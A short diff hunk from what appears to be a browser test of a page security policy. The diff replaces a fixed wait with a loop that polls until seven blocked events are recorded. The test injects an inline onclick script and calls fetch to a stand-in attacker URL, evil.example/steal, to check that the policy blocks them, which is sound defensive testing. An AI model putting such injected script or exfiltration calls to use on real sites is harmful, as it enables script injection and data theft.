@@ -146,7 +146,8 @@ async def test_the_policy_blocks_whatever_gets_into_the_page(browser: Browser) -
               document.body.insertAdjacentHTML("beforeend", "<p onclick='window.pwned = 3' style='color: red'>x</p>");
               document.body.lastElementChild.click();
               await fetch("https://evil.example/steal").catch(() => {});
-              await new Promise((resolve) => setTimeout(resolve, 100));
+              // The browser tells when it has got round to it.
+              while (new Set(blocked).size < 7) await new Promise((resolve) => setTimeout(resolve, 20));
               return blocked;
             }"""
         )
